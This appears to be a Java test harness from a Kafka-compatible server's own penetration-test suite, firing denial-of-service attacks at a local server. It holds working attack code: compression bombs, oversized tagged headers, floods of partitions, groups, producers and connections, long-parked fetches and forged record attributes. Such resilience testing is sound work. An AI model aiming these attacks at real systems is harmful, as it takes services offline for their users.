package io.firn.server;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLSocketFactory;
import org.apache.kafka.common.Uuid;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.message.CreateAclsResponseData;
import org.apache.kafka.common.message.CreateTopicsRequestData;
import org.apache.kafka.common.message.CreateTopicsRequestData.CreatableTopic;
import org.apache.kafka.common.message.CreateTopicsRequestData.CreatableTopicConfig;
import org.apache.kafka.common.message.CreateTopicsResponseData;
import org.apache.kafka.common.message.DeleteGroupsRequestData;
import org.apache.kafka.common.message.DescribeConfigsRequestData;
import org.apache.kafka.common.message.DescribeConfigsRequestData.DescribeConfigsResource;
import org.apache.kafka.common.message.FetchRequestData;
import org.apache.kafka.common.message.FetchRequestData.FetchPartition;
import org.apache.kafka.common.message.FetchRequestData.FetchTopic;
import org.apache.kafka.common.message.InitProducerIdRequestData;
import org.apache.kafka.common.message.JoinGroupRequestData;
import org.apache.kafka.common.message.JoinGroupRequestData.JoinGroupRequestProtocol;
import org.apache.kafka.common.message.ListOffsetsRequestData;
import org.apache.kafka.common.message.ListOffsetsRequestData.ListOffsetsPartition;
import org.apache.kafka.common.message.ListOffsetsRequestData.ListOffsetsTopic;
import org.apache.kafka.common.message.MetadataRequestData;
import org.apache.kafka.common.message.MetadataRequestData.MetadataRequestTopic;
import org.apache.kafka.common.message.OffsetCommitRequestData;
import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestPartition;
import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestTopic;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.message.ProduceRequestData.PartitionProduceData;
import org.apache.kafka.common.protocol.ApiKeys;
import org.apache.kafka.common.protocol.ApiMessage;
import org.apache.kafka.common.protocol.Errors;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.record.internal.SimpleRecord;

/**
 * What one client without rights does to a server, each for some seconds, on several connections.
 * Each attack was seen to stop an earlier version; {@code bin/check pentest} runs it in a JVM of
 * its own.
 */
final class Attacks {
    private static final String FROM = "127.0.0.1";
    private static final int CONNECTIONS = 4;

    /** Most of those that a server with a heap of 256 MiB can have. */
    private static final int MANY_PARTITIONS = 2_000;

    private final int port;
    private final Dialer dialer;
    private final int seconds;
    private final int principals;
    private volatile long endNs;
    private final Map<String, Integer> outcomes = new TreeMap<>();
    private final List<Wire> open = new ArrayList<>();

    private Attacks(Dialer dialer, int seconds, int principals) {
        this.principals = principals;
        this.dialer = dialer;
        this.port = dialer.port();
        this.seconds = seconds;
        begin();
    }

    /** Called again when an attack is prepared. */
    private void begin() {
        endNs = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
    }

    /** What an attack does on one connection; the number distinguishes the connections. */
    interface Attack {
        void run(Wire wire, int number) throws IOException;
    }

    /** {@code Attacks NAME PORT SECONDS PRINCIPALS [TRUSTED]}. */
    public static void main(String[] arguments) throws Exception {
        Attacks attacks =
                new Attacks(
                        Dialer.to(
                                Integer.parseInt(arguments[1]),
                                arguments.length > 4 ? Path.of(arguments[4]) : null),
                        Integer.parseInt(arguments[2]),
                        Integer.parseInt(arguments[3]));
        attacks.run(arguments[0]);
        System.out.println(attacks.outcomes);
        System.exit(0);
    }

    private void run(String name) throws Exception {
        switch (name) {
            case "partitions" -> inParallel(this::createManyPartitions);
            case "header" -> inParallel(this::sendTaggedHeader);
            case "configs" -> inParallel(this::describeOneNodeOften);
            case "timestamps" -> {
                prepareBomb(Compression.zstd().build(), 20);
                inParallel((wire, number) -> seekByTimestamp(wire, 100));
            }
            case "bomb-zstd" -> bomb(Compression.zstd().build());
            case "bomb-gzip" -> bomb(Compression.gzip().build());
            case "bomb-lz4" -> bomb(Compression.lz4().build());
            case "bomb-snappy" -> bomb(Compression.snappy().build());
            case "compaction" -> {
                createTopics(1, 10_000);
                createCompacted();
                begin();
                fillMemory();
                inParallel(this::produceLargeTombstones);
            }
            case "dense" -> {
                createTopics(1, 1);
                inParallel(this::produceDense);
            }
            case "delete-groups" -> {
                createTopics(500, 1);
                mentionGroups(20_000);
                inParallel(this::deleteGroups);
            }
            case "fetch-ids" -> {
                createTopics(1_000, 1);
                inParallel(this::fetchUnknownIds);
            }
            case "groups" -> inParallel((wire, number) -> mentionGroups(wire, 480_000, number));
            case "pending" -> inParallel(this::joinAndForget);
            case "cursors" -> {
                createTopics(1, MANY_PARTITIONS);
                inParallel(this::commitAsManyGroups);
            }
            case "producers" -> {
                createTopics(1, 1);
                inParallel(this::produceAsMany);
            }
            case "connections" -> openConnections(2_000);
            case "parked" -> inParallel(this::parkLargeFetches);
            case "metadata" -> {
                createTopics(10, MANY_PARTITIONS / 10);
                inParallel(this::askAndReadNothing);
            }
            case "one-name" -> {
                createTopics(1, 1);
                inParallel(this::commitByOneNameOnManyConnections);
            }
            case "forged-attributes" -> {
                createTopics(1, 1);
                inParallel(this::forgeAttributes);
            }
            case "topic-names" -> inParallel(this::nameManyTopics);
            case "producer-names" -> inParallel(this::nameManyProducers);
            case "group-files" ->
                    new HeapAttacks(port, this::count, this::goesOn).commitForNewGroups();
            case "heap" -> new HeapAttacks(port, this::count, this::goesOn).fillAll(principals);
            default -> {
                if (TransactionAttacks.NAMES.contains(name)) {
                    createTopics(1, TransactionAttacks.partitions(name));
                    var attacks = new TransactionAttacks(this::count, this::goesOn);
                    inParallel((wire, number) -> attacks.run(name, wire, number));
                } else if (LongRequests.has(name)) {
                    createTopics(200, 10);
                    mentionGroups(20_000);
                    if (name.equals("delete-acls")) {
                        createAcls();
                    }
                    inParallel((wire, number) -> LongRequests.send(name, wire));
                } else {
                    runGuarded(name);
                }
            }
        }
    }

    private void createAcls() throws IOException {
        try (Wire wire = new Wire(FROM, port)) {
            wire.send(LongRequests.createAcls());
            CreateAclsResponseData created =
                    wire.receive(ApiKeys.CREATE_ACLS, 3, new CreateAclsResponseData());
            if (created.results().get(0).errorCode() != 0) {
                throw new IOException(created.results().get(0).toString());
            }
        }
    }

    private void runGuarded(String name) throws Exception {
        GuardedAttacks attacks = new GuardedAttacks(dialer, FROM, this::count, this::goesOn);
        switch (name) {
            case "silent" -> attacks.stayingSilent();
            case "half-handshakes" -> attacks.halfHandshakes();
            case "slow-loris" -> attacks.sendingSlowly();
            case "guesses" -> inParallel(attacks::guess);
            case "replayed-scram" -> {
                attacks.overhear();
                inParallel(attacks::replay);
            }
            case "transaction-rights" -> {
                attacks.allowOwnNames();
                inParallel(attacks::meddle);
            }
            case Pentest.EXPIRED -> {
                SSLSocketFactory sockets = dialer.presenting(name);
                inParallel((wire, number) -> attacks.showExpired(sockets));
            }
            case "damaged-sasl" -> inParallel(attacks::damagedExchange);
            default -> throw new IllegalArgumentException("no attack " + name);
        }
    }

    private boolean goesOn() {
        return System.nanoTime() < endNs;
    }

    private synchronized void count(String outcome) {
        outcomes.merge(outcome, 1, Integer::sum);
    }

    /** Repeats an attack on several connections until the time is up; goes on after a failure. */
    private void inParallel(Attack attack) throws InterruptedException {
        begin();
        List<Thread> threads = new ArrayList<>();
        for (int i = 0; i < CONNECTIONS; i++) {
            int number = i;
            Thread thread = new Thread(() -> repeat(attack, number), "attack-" + i);
            thread.setDaemon(true);
            thread.start();
            threads.add(thread);
        }
        for (Thread thread : threads) {
            thread.join(Math.max(1, TimeUnit.NANOSECONDS.toMillis(endNs - System.nanoTime())));
        }
    }

    private void repeat(Attack attack, int number) {
        while (goesOn()) {
            try (Wire wire = dialer.unknown(FROM)) {
                attack.run(wire, number);
                count("answered");
            } catch (IOException | RuntimeException e) {
                count(e.getClass().getSimpleName());
                pause(10);
            }
        }
    }

    private static void pause(long ms) {
        try {
            Thread.sleep(ms);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static byte[] request(ApiKeys key, int version, ApiMessage body) {
        return Wire.request(key, (short) version, body);
    }

    private static CreateTopicsRequestData topics(String prefix, int count, int partitions) {
        CreateTopicsRequestData request = new CreateTopicsRequestData().setTimeoutMs(30_000);
        for (int i = 0; i < count; i++) {
            request.topics()
                    .add(
                            new CreatableTopic()
                                    .setName(prefix + i)
                                    .setNumPartitions(partitions)
                                    .setReplicationFactor((short) 1));
        }
        return request;
    }

    private void createTopics(int count, int partitions) throws IOException {
        for (int done = 0; done < count; done += 100) {
            try (Wire wire = new Wire(FROM, port)) {
                wire.ask(
                        ApiKeys.CREATE_TOPICS,
                        7,
                        topics("t" + done + "-", Math.min(100, count - done), partitions),
                        new CreateTopicsResponseData());
            }
        }
    }

    // ---- partitions, headers

    private void createManyPartitions(Wire wire, int number) throws IOException {
        long now = System.nanoTime();
        wire.send(request(ApiKeys.CREATE_TOPICS, 7, topics("p" + number + "-" + now, 1, 100_000)));
        wire.receive();
        wire.send(request(ApiKeys.CREATE_TOPICS, 7, topics("q" + number + "-" + now, 1, 5_000)));
        wire.receive();
    }

    /** A produce request may be large, so its header may have 81 MB of tags without content. */
    private void sendTaggedHeader(Wire wire, int number) throws IOException {
        int tags = 16_600_000;
        ByteBuffer bytes = ByteBuffer.allocate(4 + 10 + 4 + 5 * tags);
        bytes.position(4);
        bytes.putShort(ApiKeys.PRODUCE.id).putShort((short) 9).putInt(1).putShort((short) -1);
        varint(bytes, tags);
        for (int i = 1; i <= tags; i++) {
            varint(bytes, i);
            bytes.put((byte) 0);
        }
        bytes.flip();
        bytes.putInt(0, bytes.limit() - 4);
        byte[] all = new byte[bytes.limit()];
        bytes.get(all);
        while (goesOn()) {
            wire.sendRaw(all);
        }
    }

    private static void varint(ByteBuffer out, int value) {
        int rest = value;
        while ((rest & ~0x7f) != 0) {
            out.put((byte) ((rest & 0x7f) | 0x80));
            rest >>>= 7;
        }
        out.put((byte) rest);
    }

    // ---- one name many times

    private void describeOneNodeOften(Wire wire, int number) throws IOException {
        DescribeConfigsRequestData request = new DescribeConfigsRequestData();
        for (int i = 0; i < 20_000; i++) {
            request.resources()
                    .add(
                            new DescribeConfigsResource()
                                    .setResourceType((byte) 4)
                                    .setResourceName("1")
                                    .setConfigurationKeys(null));
        }
        byte[] bytes = request(ApiKeys.DESCRIBE_CONFIGS, 4, request);
        wire.send(bytes);
        wire.receive();
    }

    private void prepareBomb(Compression codec, int batches) throws IOException {
        createTopics(1, 1);
        // One record of zeros; a seek behind its time has to look into it.
        MemoryRecords bomb =
                MemoryRecords.withRecords(
                        codec,
                        new SimpleRecord(1_000L, null, new byte[120 << 20]),
                        new SimpleRecord(2_000L, null, new byte[1]));
        count("bomb of " + bomb.sizeInBytes() + " bytes");
        try (Wire wire = new Wire(FROM, port)) {
            for (int i = 0; i < batches; i++) {
                count(
                        "produced with error "
                                + Asks.produced(wire, "t0-0", 0, Asks.ALL, bomb).errorCode());
            }
        }
    }

    private void seekByTimestamp(Wire wire, int times) throws IOException {
        ListOffsetsTopic topic = new ListOffsetsTopic().setName("t0-0");
        for (int i = 0; i < times; i++) {
            topic.partitions()
                    .add(new ListOffsetsPartition().setPartitionIndex(0).setTimestamp(1_500L));
        }
        ListOffsetsRequestData request =
                new ListOffsetsRequestData().setReplicaId(-1).setTopics(List.of(topic));
        wire.send(request(ApiKeys.LIST_OFFSETS, 5, request));
        wire.receive();
    }

    private void bomb(Compression codec) throws Exception {
        prepareBomb(codec, 1);
        inParallel((wire, number) -> seekByTimestamp(wire, 1));
    }

    /** Topics whose segments end soon, and are compacted at once. */
    private void createCompacted() throws IOException {
        CreateTopicsRequestData request = topics("compacted-", CONNECTIONS, 1);
        for (CreatableTopic topic : request.topics()) {
            Map.of(
                            "cleanup.policy", "compact",
                            "min.cleanable.dirty.ratio", "0",
                            "segment.ms", "100")
                    .forEach(
                            (key, value) ->
                                    topic.configs()
                                            .add(
                                                    new CreatableTopicConfig()
                                                            .setName(key)
                                                            .setValue(value)));
        }
        try (Wire wire = new Wire(FROM, port)) {
            CreateTopicsResponseData created =
                    wire.ask(ApiKeys.CREATE_TOPICS, 7, request, new CreateTopicsResponseData());
            if (created.topics().iterator().next().errorCode() != 0) {
                throw new IOException(created.toString());
            }
        }
    }

    /** Makes the server remember offsets and producers, as much as it accepts. */
    private void fillMemory() throws IOException {
        try (Wire wire = new Wire(FROM, port)) {
            commitAsManyGroups(wire, 0);
            int waiting = 0;
            for (int id = 0; id < 120_000 && goesOn(); id++) {
                MemoryRecords small =
                        MemoryRecords.withIdempotentRecords(
                                Compression.NONE,
                                id,
                                (short) 0,
                                0,
                                new SimpleRecord(1_000L, new byte[] {(byte) id}, new byte[1]));
                wire.send(Asks.produceBytes("compacted-0", 0, (short) 1, small));
                if (++waiting == 50) {
                    for (; waiting > 0; waiting--) {
                        wire.receive();
                    }
                    count("50 producers");
                }
            }
        }
    }

    /** Tombstones of 30 MB in batches of 1 KB. */
    private void produceLargeTombstones(Wire wire, int number) throws IOException {
        for (int i = 0; goesOn(); i++) {
            byte[] key = new byte[30 << 20];
            key[0] = (byte) i;
            MemoryRecords bomb =
                    MemoryRecords.withRecords(
                            Compression.zstd().build(), new SimpleRecord(1_000L + i, key, null));
            int error = Asks.produced(wire, "compacted-" + number, 0, Asks.ALL, bomb).errorCode();
            count("tombstones with error " + error);
            pause(200);
        }
    }

    /** Requests of one producer are carried out one after another, each with a force. */
    private void commitByOneNameOnManyConnections(Wire wire, int number) throws IOException {
        byte[] commit = TransactionAttacks.commitOne(wire, "one-" + number);
        List<Wire> all = new ArrayList<>();
        try {
            while (goesOn()) {
                for (int i = 0; i < 60; i++) {
                    all.add(dialer.unknown(FROM));
                }
                for (Wire each : all) {
                    each.send(commit);
                }
                for (Wire each : all) {
                    try (each) {
                        each.receive();
                        count("committed");
                    } catch (IOException e) {
                        count("late");
                    }
                }
                all.clear();
            }
        } finally {
            for (Wire each : all) {
                each.close();
            }
        }
    }

    private void mentionGroups(int count) throws IOException {
        try (Wire wire = new Wire(FROM, port)) {
            mentionGroups(wire, count, 0);
        }
    }

    /** A commit for a topic that does not exist. */
    private void mentionGroups(Wire wire, int count, int number) throws IOException {
        int waiting = 0;
        for (int i = 0; i < count && goesOn(); i++) {
            OffsetCommitRequestData commit =
                    new OffsetCommitRequestData()
                            .setGroupId("g" + number + "-" + i)
                            .setGenerationIdOrMemberEpoch(-1);
            wire.send(request(ApiKeys.OFFSET_COMMIT, 8, commit));
            if (++waiting == 20) {
                for (; waiting > 0; waiting--) {
                    wire.receive();
                }
            }
        }
        for (; waiting > 0; waiting--) {
            wire.receive();
        }
    }

    private void deleteGroups(Wire wire, int number) throws IOException {
        List<String> names = new ArrayList<>();
        for (int i = 0; i < 20_000; i++) {
            names.add("g0-" + i);
        }
        wire.send(
                request(
                        ApiKeys.DELETE_GROUPS,
                        2,
                        new DeleteGroupsRequestData().setGroupsNames(names)));
        wire.receive();
    }

    private void fetchUnknownIds(Wire wire, int number) throws IOException {
        FetchRequestData request = new FetchRequestData().setMaxWaitMs(1_000).setMinBytes(1);
        for (int i = 0; i < 20_000; i++) {
            request.topics()
                    .add(
                            new FetchTopic()
                                    .setTopicId(Uuid.randomUuid())
                                    .setPartitions(List.of(new FetchPartition().setPartition(0))));
        }
        wire.send(request(ApiKeys.FETCH, 13, request));
        wire.receive();
    }

    // ---- what is remembered

    private void joinAndForget(Wire wire, int number) throws IOException {
        String client = "c".repeat(32_000);
        for (int i = 0; i < 5_500 && goesOn(); i++) {
            JoinGroupRequestData join =
                    new JoinGroupRequestData()
                            .setGroupId("pending" + number)
                            .setSessionTimeoutMs(1_800_000)
                            .setRebalanceTimeoutMs(1_800_000)
                            .setProtocolType("consumer")
                            .setMemberId("");
            join.protocols()
                    .add(new JoinGroupRequestProtocol().setName("range").setMetadata(new byte[8]));
            wire.send(Wire.request(ApiKeys.JOIN_GROUP, (short) 4, join, client));
            wire.receive();
        }
    }

    private void commitAsManyGroups(Wire wire, int number) throws IOException {
        for (int i = 0; i < 900 && goesOn(); i++) {
            OffsetCommitRequestData commit =
                    new OffsetCommitRequestData()
                            .setGroupId("cursor" + number + "-" + i)
                            .setGenerationIdOrMemberEpoch(-1);
            OffsetCommitRequestTopic topic = new OffsetCommitRequestTopic().setName("t0-0");
            for (int p = 0; p < MANY_PARTITIONS; p++) {
                topic.partitions()
                        .add(
                                new OffsetCommitRequestPartition()
                                        .setPartitionIndex(p)
                                        .setCommittedOffset(0)
                                        .setCommittedMetadata("m".repeat(100)));
            }
            commit.topics().add(topic);
            wire.send(request(ApiKeys.OFFSET_COMMIT, 8, commit));
            wire.receive();
        }
    }

    private void produceAsMany(Wire wire, int number) throws IOException {
        int waiting = 0;
        for (long id = 0; goesOn(); id++) {
            wire.send(
                    Asks.produceBytes(
                            "t0-0",
                            0,
                            (short) 1,
                            Asks.batch(id * CONNECTIONS + number, 0, new byte[1])));
            if (++waiting == 20) {
                for (; waiting > 0; waiting--) {
                    wire.receive();
                }
            }
        }
    }

    /**
     * Produces very many batches that claim many records, which have to be decompressed to be
     * counted, to one partition, or to a topic that does not exist.
     */
    private void produceDense(Wire wire, int number) throws IOException {
        ByteBuffer header = ByteBuffer.allocate(61);
        header.putInt(8, 49).put(16, (byte) 2).putShort(21, (short) 1).putInt(57, 1_000);
        MemoryRecords dense = MemoryRecords.readableRecords(header);
        String topic = number % 2 == 0 ? "t0-0" : "no-such";
        List<PartitionProduceData> all = new ArrayList<>();
        for (int i = 0; i < 100_000; i++) {
            all.add(new PartitionProduceData().setIndex(0).setRecords(dense));
        }
        ProduceRequestData request = Asks.produce(topic, 0, (short) 1, dense);
        request.topicData().iterator().next().setPartitionData(all);
        wire.send(request(ApiKeys.PRODUCE, Asks.PRODUCE, request));
        wire.receive();
    }

    /** Tombstones with a delete horizon that is long past, control batches, and unknown bits. */
    private void forgeAttributes(Wire wire, int number) throws IOException {
        MemoryRecords tombstone = ForgedBatches.tombstone(Compression.NONE);
        for (int bit : ForgedBatches.BITS_OF_THE_LOG) {
            MemoryRecords forged = ForgedBatches.withAttributes(tombstone, 1 << bit);
            short error = Asks.produced(wire, "t0-0", 0, Asks.ALL, forged).errorCode();
            if (error != Errors.INVALID_RECORD.code()) {
                count(GuardedAttacks.LET_IN + " bit " + bit + ", error " + error);
            }
        }
    }

    /** Metadata of topics that do not exist, each by another name, which may create them. */
    private void nameManyTopics(Wire wire, int number) throws IOException {
        for (int i = 0; goesOn(); i++) {
            MetadataRequestData request =
                    new MetadataRequestData().setAllowAutoTopicCreation(i % 50 == 0);
            List<MetadataRequestTopic> topics = new ArrayList<>();
            for (int k = 0; k < 1_000; k++) {
                topics.add(new MetadataRequestTopic().setName(number + "-" + i + "-" + k));
            }
            wire.send(request(ApiKeys.METADATA, 12, request.setTopics(topics)));
            wire.receive();
            count("requests of 1,000 topics");
        }
    }

    /** Each request from another client id, some for the id of a producer. */
    private void nameManyProducers(Wire wire, int number) throws IOException {
        for (int i = 0; goesOn(); i += 20) {
            for (int k = 0; k < 20; k++) {
                String name = "producer-" + number + "-" + (i + k) + "-" + "n".repeat(200);
                InitProducerIdRequestData init =
                        new InitProducerIdRequestData()
                                .setTransactionalId(k % 2 == 0 ? name : null)
                                .setTransactionTimeoutMs(60_000);
                wire.send(Wire.request(ApiKeys.INIT_PRODUCER_ID, (short) 3, init, name));
            }
            for (int k = 0; k < 20; k++) {
                wire.receive();
            }
            count("20 names");
        }
    }

    // ---- connections, memory

    private void openConnections(int count) {
        for (int i = 0; i < count && goesOn(); i++) {
            try {
                open.add(new Wire(FROM, port));
            } catch (IOException e) {
                count(e.getClass().getSimpleName());
                pause(10);
            }
        }
        count("opened " + open.size());
        while (goesOn()) {
            pause(100);
        }
    }

    /** Fetches of 8 MB that wait for ten minutes. */
    private void parkLargeFetches(Wire wire, int number) throws IOException {
        FetchTopic topic = new FetchTopic().setTopic("t0-0");
        List<FetchPartition> partitions = new ArrayList<>();
        for (int i = 0; i < 100_000; i++) {
            partitions.add(new FetchPartition().setPartition(0));
        }
        createTopics(1, 1);
        FetchRequestData request =
                new FetchRequestData()
                        .setMaxWaitMs(600_000)
                        .setMinBytes(1)
                        .setTopics(List.of(topic.setPartitions(partitions)));
        byte[] bytes = request(ApiKeys.FETCH, 12, request);
        for (int i = 0; i < 16; i++) {
            wire.send(bytes);
        }
        while (goesOn()) {
            pause(100);
        }
    }

    private void askAndReadNothing(Wire wire, int number) throws IOException {
        List<Wire> all = new ArrayList<>();
        byte[] bytes = request(ApiKeys.METADATA, 12, new MetadataRequestData().setTopics(null));
        for (int i = 0; i < 200 && goesOn(); i++) {
            Wire each = new Wire(FROM, port);
            all.add(each);
            for (int k = 0; k < 32; k++) {
                each.send(bytes);
            }
        }
        while (goesOn()) {
            pause(100);
        }
        for (Wire each : all) {
            each.close();
        }
    }
}
